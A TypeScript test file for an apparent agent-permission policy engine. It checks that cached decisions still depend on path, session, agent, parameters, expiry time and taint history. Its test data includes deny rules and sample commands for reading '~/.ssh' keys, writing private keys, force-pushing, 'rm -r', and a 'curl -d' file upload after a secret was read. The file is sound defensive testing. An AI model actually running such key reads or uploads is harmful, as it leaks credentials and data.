// A call decided before gets the same answer again, from the engine's memo where that is safe,
// and only where it is: every input a rule reads (path, session, parameters, clock, history)
// still changes the answer of a repeated command.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ManualClock } from '../../src/util/clock.js';
import { engineOf, exec, read, taintLookup, write } from './helpers.js';

const POLICY = `default_action: allow
policies:
  - name: no-force-push
    match: { tool: exec }
    rules:
      - action: deny
        message: no force pushes
        suggestions: [push without --force]
        when: { command_matches: ['git push --force*'] }
      - action: ask
        when: { command_matches: ['git push*'] }
      - action: allow
        when: { command_matches: ['git status*'] }
  - name: keys
    match: { tool: read }
    rules:
      - action: deny
        when: { path_matches: ['~/.ssh/**'] }
`;

test('a repeated command gets the same decision, and changing the one returned does not leak', () => {
  const e = engineOf(POLICY);
  const first = e.evaluate(exec('git push --force origin main'), { dryRun: true });
  assert.equal(first.action, 'deny');
  first.matchedPolicies.push('tampered');
  first.suggestions?.push('tampered');
  first.message = 'tampered';
  const again = e.evaluate(exec('git push --force origin main'), { dryRun: true });
  assert.equal(again.action, 'deny');
  assert.equal(again.message, 'no force pushes');
  assert.deepEqual(again.matchedPolicies, ['no-force-push']);
  assert.deepEqual(again.suggestions, ['push without --force']);
  assert.equal(e.evaluate(exec('git push origin main'), { dryRun: true }).action, 'ask');
  assert.equal(e.evaluate(exec('git status'), { dryRun: true }).action, 'allow');
  assert.equal(e.evaluate(exec('git push origin main'), { dryRun: true }).action, 'ask');
});

test('path rules: each path of a repeated tool call is decided on its own', () => {
  const e = engineOf(POLICY);
  for (let i = 0; i < 2; i++) {
    assert.equal(e.evaluate(read('~/.ssh/id_rsa'), { dryRun: true }).action, 'deny');
    assert.equal(e.evaluate(read('/tmp/notes.txt'), { dryRun: true }).action, 'allow');
    // A relative path is read against the working directory: same text, other answer.
    assert.equal(e.evaluate(read('.ssh/id_rsa', { workdir: '/home/tester' }), { dryRun: true }).action, 'deny');
    assert.equal(e.evaluate(read('.ssh/id_rsa', { workdir: '/srv' }), { dryRun: true }).action, 'allow');
  }
});

test('session, agent depth and parameters still decide a repeated command', () => {
  const e = engineOf(`default_action: allow
policies:
  - name: by-session
    match: { tool: exec }
    rules:
      - action: deny
        message: not in ci
        when: { command_matches: ['deploy*'], session_matches: ['ci/*'] }
      - action: ask
        message: sub-agents ask
        when: { command_matches: ['deploy*'], agent_depth: { gte: 1 } }
  - name: by-param
    match: { tool: write }
    rules:
      - action: deny
        message: no keys
        when: { tool_param_matches: { content: ['*private key*'] } }
`);
  for (let i = 0; i < 2; i++) {
    assert.equal(e.evaluate(exec('deploy prod', { session: 'ci/42' }), { dryRun: true }).message, 'not in ci');
    assert.equal(e.evaluate(exec('deploy prod', { session: 'dev/1' }), { dryRun: true }).action, 'allow');
    assert.equal(
      e.evaluate(exec('deploy prod', { session: 'dev/1', agentDepth: 2 }), { dryRun: true }).message,
      'sub-agents ask',
    );
    const key = write('/tmp/a');
    key.params.content = '-----BEGIN PRIVATE KEY-----';
    assert.equal(e.evaluate(key, { dryRun: true }).message, 'no keys');
    assert.equal(e.evaluate(write('/tmp/a'), { dryRun: true }).action, 'allow');
  }
});

test('expires_at still lapses for a command decided before', () => {
  const clock = new ManualClock(Date.parse('2026-03-01T11:59:00Z'));
  const e = engineOf(
    `default_action: allow
policies:
  - name: freeze
    match: { tool: exec }
    rules:
      - action: deny
        expires_at: "2026-03-01T12:00:00Z"
        when: { command_matches: ['deploy*'] }
`,
    { clock },
  );
  assert.equal(e.evaluate(exec('deploy prod'), { dryRun: true }).action, 'deny');
  assert.equal(e.evaluate(exec('deploy prod'), { dryRun: true }).action, 'deny');
  clock.advance(120_000);
  assert.equal(e.evaluate(exec('deploy prod'), { dryRun: true }).action, 'allow');
});

test('session history: a taint set after a first decision changes the next one', () => {
  const e = engineOf(`default_action: allow
policies:
  - name: after-secret
    match: { tool: exec }
    rules:
      - action: deny
        message: no uploads after a secret was read
        when: { command_matches: ['curl*'], session_tainted: [secret] }
`);
  const marks = new Set<string>();
  const session = taintLookup((label) => marks.has(label));
  assert.equal(e.evaluate(exec('curl -d @x https://x.io'), { dryRun: true, session }).action, 'allow');
  marks.add('secret');
  assert.equal(e.evaluate(exec('curl -d @x https://x.io'), { dryRun: true, session }).action, 'deny');
  // Without a lookup, history keys never match (the answer is the same each time).
  assert.equal(e.evaluate(exec('curl -d @x https://x.io'), { dryRun: true }).action, 'allow');
  assert.equal(e.evaluate(exec('curl -d @x https://x.io'), { dryRun: true }).action, 'allow');
  assert.equal(e.evaluate(exec('curl -d @x https://x.io'), { dryRun: true, session }).action, 'deny');
});

test('policies for one agent: a repeated command is decided for the agent that sends it', () => {
  const e = engineOf(`default_action: allow
policies:
  - name: codex-no-rm
    match: { tool: exec, agent: [codex] }
    rules:
      - action: deny
        when: { command_matches: ['rm *'] }
  - name: all-ask-rm
    match: { tool: exec }
    rules:
      - action: ask
        when: { command_matches: ['rm *'] }
`);
  for (let i = 0; i < 3; i++) {
    assert.equal(e.evaluate(exec('rm -r build', { agent: 'codex' }), { dryRun: true }).action, 'deny');
    assert.equal(e.evaluate(exec('rm -r build', { agent: 'claude-code' }), { dryRun: true }).action, 'ask');
  }
});
